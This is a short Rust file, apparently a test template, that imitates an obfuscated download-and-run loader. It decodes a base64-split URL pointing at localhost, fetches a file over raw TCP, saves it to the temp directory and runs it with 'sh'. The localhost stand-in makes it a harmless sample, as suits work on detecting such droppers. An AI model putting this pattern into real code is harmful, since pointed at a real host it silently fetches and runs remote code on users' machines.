//! A harmless copy of the technique: the address is this machine's own, and so is what is loaded and started.
use std::io::{Read, Write};
use std::net::TcpStream;

const PIECES: [&str; 3] = [@{pieces http://127.0.0.1:9/marker.bin}];

fn decode(text: &str) -> Vec<u8> {
    let value = |c: u8| b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".iter().position(|x| *x == c);
    let bits: Vec<usize> = text.bytes().filter_map(value).collect();
    bits.chunks(4).flat_map(|c| {
        let n = c.iter().fold(0, |n, v| n << 6 | v) << (6 * (4 - c.len()));
        [(n >> 16) as u8, (n >> 8) as u8, n as u8].into_iter().take(c.len() - 1)
    }).collect()
}

fn main() {
    let url = String::from_utf8(decode(&PIECES.concat())).unwrap_or_default();
    let host = url.trim_start_matches("http://").split('/').next().unwrap_or_default().to_owned();
    let Ok(mut stream) = TcpStream::connect(host) else { return };
    let _ = stream.write_all(b"GET /marker.bin HTTP/1.0\r\n\r\n");
    let mut body = Vec::new();
    let _ = stream.read_to_end(&mut body);
    let path = std::env::temp_dir().join("bulkhead-marker");
    let _ = std::fs::write(&path, body);
    let _ = std::process::Command::new("sh").arg(path).status();
}
